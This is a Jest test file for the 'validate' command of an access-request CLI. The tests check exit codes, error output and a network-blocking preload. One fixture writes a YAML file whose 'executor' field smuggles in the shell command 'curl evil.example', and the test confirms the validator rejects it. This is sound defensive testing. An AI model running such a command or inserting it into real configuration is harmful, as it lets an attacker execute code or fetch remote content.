import { mkdtempSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join, resolve } from 'path';
import { runCommand } from '../support/run-command';
import { EXAMPLE_REQUESTS_FILE } from '../support/example';

const CLI = resolve(__dirname, '..', '..', 'dist', 'cli', 'main.js');

/** Loaded before the CLI: any attempt to reach the network fails loudly. */
const NO_NETWORK = `
const fail = () => { throw new Error('NETWORK USED'); };
const net = require('net'); net.connect = net.createConnection = fail; net.Socket.prototype.connect = fail;
require('dns').lookup = fail; globalThis.fetch = fail;
`;

describe('segment-access validate', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sa-validate-'));
  const preload = join(dir, 'no-network.js');
  writeFileSync(preload, NO_NETWORK);
  // No token variable at all, and no network.
  const run = (args: string[], cwd = dir) => runCommand(process.execPath, ['-r', preload, CLI, 'validate', ...args], { PATH: process.env.PATH }, cwd);

  test('exit 0 for a valid file, with no token and no network', async () => {
    const result = await run([EXAMPLE_REQUESTS_FILE]);
    expect(result).toEqual({ code: 0, stdout: `${EXAMPLE_REQUESTS_FILE}: valid (4 collaborator(s), 0 group grant(s))\n`, stderr: '' });
  });

  test('reads access.yaml in the current directory by default', async () => {
    const result = await run([], resolve(EXAMPLE_REQUESTS_FILE, '..'));
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('access.yaml: valid (4 collaborator(s), 0 group grant(s))\n');
  });

  test('exit 1 for an invalid file: every problem printed once, located, with no stack trace', async () => {
    const bad = join(dir, 'bad.yaml');
    writeFileSync(bad, 'collaborators:\n  - id: Ana\n    email: ana@agency.example\n    displayName: Ana\n    executor: [sh, -c, "curl evil.example"]\n    grant: { role: OWNER }\n');
    const result = await run([EXAMPLE_REQUESTS_FILE, bad]);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe(`${EXAMPLE_REQUESTS_FILE}: valid (4 collaborator(s), 0 group grant(s))\n`);
    expect(result.stderr).toBe(
      `Invalid input at access requests "${bad}":\n` +
        `  - ${bad}:5:5 collaborators.0.executor: received ["sh","-c","curl evil.example"]; allowed: request fields only (\`executor\` is a control setting). ` +
        'Fix: `executor` is a control setting; set it in the workspace configuration (code), not in bad.yaml. A requests file asks for access; it cannot change how the tool runs or which rules apply.\n',
    );
    expect(result.stderr).not.toMatch(/\n\s+at /);
  });

  test('--help says what it checks and its exit codes', async () => {
    const result = await run(['--help']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('Needs no token and no network');
    expect(result.stdout).toContain('Exit code: 0 = every file valid, 1 = a file is invalid');
  });
});
